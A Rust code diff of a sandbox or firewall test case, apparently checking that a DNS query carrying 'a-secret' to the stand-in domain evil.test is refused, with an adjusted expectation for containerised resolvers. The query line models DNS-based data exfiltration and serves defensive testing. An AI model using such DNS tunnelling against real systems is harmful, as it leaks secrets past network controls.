@@ -14,8 +14,11 @@ pub(super) const TECHNIQUE: Technique = Technique {
         Step::Udp(At(SYSTEMD, 53), Made("a query for a-secret.evil.test", || query(8, "a-secret.evil.test", A))),
     ],
     expect: Expect { refusals: &[refusals(2, "dns", "default", "no_rule_allows")], ..NOTHING },
-    // The loopback of its own network namespace leads nowhere.
-    on_host: Some(NOTHING),
+    // The loopback of its own network namespace leads nowhere, but for the engine's resolver in a container.
+    on_host: Some(Expect {
+        refusals: &[Refusal { times: Count::Any, ..refusal("dns", "default", "no_rule_allows") }],
+        ..NOTHING
+    }),
 };
 
 const DOCKER: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 11));
